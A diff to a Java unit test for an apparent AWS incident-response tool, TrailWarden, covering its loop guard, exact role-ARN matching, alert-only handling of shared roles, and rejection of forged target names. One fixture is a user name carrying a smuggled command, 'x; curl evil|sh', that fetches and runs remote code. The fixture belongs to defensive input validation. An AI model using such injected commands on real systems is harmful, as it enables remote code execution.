@@ -143,7 +143,7 @@ class ResponsePlannerTest {
     }
 
     @Test
-    void loopGuardIgnoresFindingsMadeOnlyByTrailWardensOwnIdentities() throws Exception {
+    void loopGuardNeverContainsTrailWardensOwnActivityButStillAlertsItAtLowSeverity() throws Exception {
         ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
         Finding ownRole = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
         ownRole.events = assumedRole(ownRole.events, OWN_ROLE, "TrailWardenJob", "any-session");
@@ -152,9 +152,49 @@ class ResponsePlannerTest {
                 "arn:aws:iam::111122223333:role/TrailWardenResponder", "TrailWardenResponder", "TrailWarden-responder");
 
         for (Finding finding : List.of(ownRole, responderSession)) {
-            assertThat(planner.plan(finding).steps).isNotEmpty()
-                    .allSatisfy(step -> assertThat(step.decision).isEqualTo(Decision.IGNORED_OWN_ACTIVITY));
+            ResponsePlan plan = planner.plan(finding);
+            assertThat(containStep(plan).decision).isEqualTo(Decision.IGNORED_OWN_ACTIVITY);
+            assertThat(plan.steps.get(plan.steps.size() - 1)).satisfies(alert -> {
+                assertThat(alert.type).isEqualTo(PlannedAction.Type.ALERT);
+                assertThat(alert.decision).isEqualTo(Decision.EXECUTE);
+            });
+            assertThat(plan.finding.severity).isEqualTo(io.trailwarden.finding.Severity.LOW);
         }
+    }
+
+    /** Issue 10 item 4: the responder role's name in an account that is not configured, or on another path, is not TrailWarden. */
+    @Test
+    void loopGuardMatchesOnlyTheExactResponderRoleArnsOfConfiguredAccounts() throws Exception {
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
+        Finding otherAccount = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
+        otherAccount.events = assumedRole(otherAccount.events,
+                "arn:aws:iam::999988887777:role/TrailWardenResponder", "TrailWardenResponder", "TrailWarden-x");
+        Finding otherPath = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
+        otherPath.events = assumedRole(otherPath.events,
+                "arn:aws:iam::111122223333:role/attacker/TrailWardenResponder", "TrailWardenResponder", "TrailWarden-x");
+
+        assertThat(containStep(planner.plan(otherAccount)).decision).isEqualTo(Decision.EXECUTE);
+        assertThat(containStep(planner.plan(otherPath)).decision).isEqualTo(Decision.EXECUTE);
+    }
+
+    /** Issue 10 item 5: revoking a shared role's sessions stops everyone on it; alert only unless configured. */
+    @Test
+    void aRoleIsAlertOnlyUnlessItIsAContainableRole() throws Exception {
+        Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "unused");
+        Target developer = Target.of(Target.Kind.IAM_ROLE, "Developer", "arn:aws:sts::" + ACCOUNT + ":assumed-role/Developer/alice", ACCOUNT);
+        finding.response = List.of(PlannedAction.of(PlannedAction.Type.CONTAIN, developer, false, null));
+
+        assertThat(containStep(new ResponsePlanner(config(Map.of())).plan(finding)).decision)
+                .isEqualTo(Decision.SKIPPED_NOT_CONTAINABLE);
+        assertThat(containStep(new ResponsePlanner(config(Map.of("containableRoles", "arn:aws:iam::*:role/Dev*")))
+                .plan(finding)).decision).isEqualTo(Decision.EXECUTE);
+    }
+
+    @Test
+    void aTargetWhoseNameIamWouldRejectIsNeverContained() throws Exception {
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
+        Finding forged = CorpusFindings.backdoorUser(ACCOUNT, "x; curl evil|sh");
+        assertThat(containStep(planner.plan(forged)).decision).isEqualTo(Decision.SKIPPED_NOT_CONTAINABLE);
     }
 
     @Test
